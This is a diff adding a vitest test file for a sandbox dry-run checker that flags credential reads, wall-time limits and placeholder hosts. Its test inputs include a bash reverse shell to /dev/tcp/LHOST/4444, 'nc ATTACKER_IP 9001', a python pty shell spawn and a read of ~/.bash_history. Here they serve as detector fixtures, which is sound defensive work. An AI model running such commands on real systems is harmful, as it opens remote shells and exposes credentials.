@@ -1,0 +1,37 @@
+/**
+ * How the dry run judges what it saw, on the events a real run records: an interactive shell loading its
+ * own history, an interactive terminal left waiting for a person, and a destination named only by a
+ * placeholder (`LHOST`) are told apart from the acts they resemble.
+ */
+import { describe, expect, it } from 'vitest';
+import { createHoneypot } from '../../sandbox/honeypot.ts';
+import { inventedMatcher, placeholderHosts } from '../../sandbox/plan.ts';
+import { findViolations } from '../../sandbox/violations.ts';
+import { CapabilitiesSchema, type DryRunEvent } from '../../schemas/index.ts';
+
+const nothingDeclared = CapabilitiesSchema.parse({});
+const ids = (events: DryRunEvent[]) => findViolations(events, nothingDeclared, createHoneypot()).map((violation) => `${violation.ruleId}:${violation.severity}`);
+
+describe('findViolations', () => {
+  it('does not count an interactive shell loading its own history as a credential read, but counts a skill reading it', () => {
+    const started = "bash -c 'bash -i >& /dev/tcp/LHOST/4444 0>&1'";
+    expect(ids([{ kind: 'file-read', target: '~/.bash_history', command: started, canary: false }])).toEqual([]);
+    expect(ids([{ kind: 'file-read', target: '~/.bash_history', command: 'cat ~/.bash_history', canary: false }])).toEqual(['dryrun-credential-read:medium']);
+  });
+
+  it('reads a wall-time limit of an interactive terminal as waiting for input, and any other as a resource hog', () => {
+    const limit = (command: string): DryRunEvent => ({ kind: 'limit', target: 'wall time 20000 ms', command, canary: false, limit: 'wall-time' } as DryRunEvent);
+    expect(ids([limit(`python3 -c 'import pty; pty.spawn("/bin/bash")'`)])).toEqual(['dryrun-limit-wall-time:medium']);
+    expect(ids([limit('python3 scripts/crunch.py')])).toEqual(['dryrun-limit-wall-time:high']);
+  });
+});
+
+describe('placeholderHosts', () => {
+  it('finds the destinations a command leaves for the user to fill in, and only those', () => {
+    const chosen = inventedMatcher(placeholderHosts("bash -c 'bash -i >& /dev/tcp/LHOST/4444 0>&1'; nc ATTACKER_IP 9001"));
+    expect(chosen.host('lhost')).toBe(true);
+    expect(chosen.host('attacker_ip')).toBe(true);
+    expect(placeholderHosts('curl -s https://api.example.com/v1 -H "X-HOST: $HOST"')).toEqual([]);
+    expect(placeholderHosts('curl https://c2host.invalid/x')).toEqual([]);
+  });
+});
